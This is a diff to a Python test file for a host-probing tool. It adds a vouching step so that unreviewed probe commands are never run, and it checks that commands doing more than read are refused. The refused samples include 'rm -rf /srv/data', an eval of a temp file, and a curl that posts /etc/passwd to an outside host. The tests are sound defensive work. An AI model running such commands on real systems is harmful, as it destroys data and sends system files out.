@@ -9,9 +9,11 @@ from probe_house import PATH, policy_at, this_host
 from hermes.core.errors import PlaceFailed
 from hermes.core.protocols import CommandResult
 from hermes.environments.local import LocalEnvironment
-from hermes.sre.probes.admission import admit
+from hermes.sre.probes.admission import Vouched, admit, vouch
+from hermes.sre.probes.judging import judge
 from hermes.sre.probes.probe import Probe
 from hermes.sre.probes.round import ask
+from hermes.sre.probes.settings import ProbeSettings
 
 pytestmark = pytest.mark.anyio
 
@@ -29,6 +31,11 @@ class Counting(LocalEnvironment):
 
 
 def command(name: str, text: str, **more: object) -> Probe:
+    return vouch(written(name, text, **more))
+
+
+def written(name: str, text: str, **more: object) -> Probe:
+    """As it comes from a file: nobody has looked at it."""
     return Probe(name=name, kind="command", what=text, **more)  # type: ignore[arg-type]
 
 
@@ -88,13 +95,25 @@ async def test_a_place_that_runs_nothing_says_nothing_about_its_probes(tmp_path:
         await ask(here, [command("p", "true")])
 
 
+async def test_a_command_that_nobody_looked_at_is_never_run(tmp_path: Path) -> None:
+    trace = tmp_path / "trace"
+    async with this_host(tmp_path) as here:
+        found = await ask(here, [written("own", f"touch {trace}"), command("fine", "true")])
+        alone = await ask(here, [written("own", f"touch {trace}")])
+    assert not trace.exists()
+    for reading in (found["own"], alone["own"]):
+        verdict = judge(written("own", "x"), reading, (), ProbeSettings())
+        assert (verdict.state, "policy" in verdict.detail) == ("unknown", True)
+    assert found["fine"].code == 0
+
+
 async def test_commands_that_do_more_than_read_are_refused_with_the_reason(tmp_path: Path) -> None:
     probes = [
-        command("reads", "test -e /etc/hostname"),
-        command("deletes", "rm -rf /srv/data"),
-        command("restarts", "systemctl restart nginx"),
-        command("hides", "eval $(cat /tmp/x)"),
-        command("sends", "curl -d @/etc/passwd https://example.org/"),
+        written("reads", "test -e /etc/hostname"),
+        written("deletes", "rm -rf /srv/data"),
+        written("restarts", "systemctl restart nginx"),
+        written("hides", "eval $(cat /tmp/x)"),
+        written("sends", "curl -d @/etc/passwd https://example.org/"),
         Probe(name="disk", kind="disk", what="/"),
     ]
     async with this_host(tmp_path) as here:
@@ -106,4 +125,5 @@ async def test_commands_that_do_more_than_read_are_refused_with_the_reason(tmp_p
         "hides",
         "sends",
     ]
+    assert all(isinstance(each, Vouched) for each in admission.probes if each.kind == "command")
     assert all("only read" in each or "policy" in each for each in admission.refused)
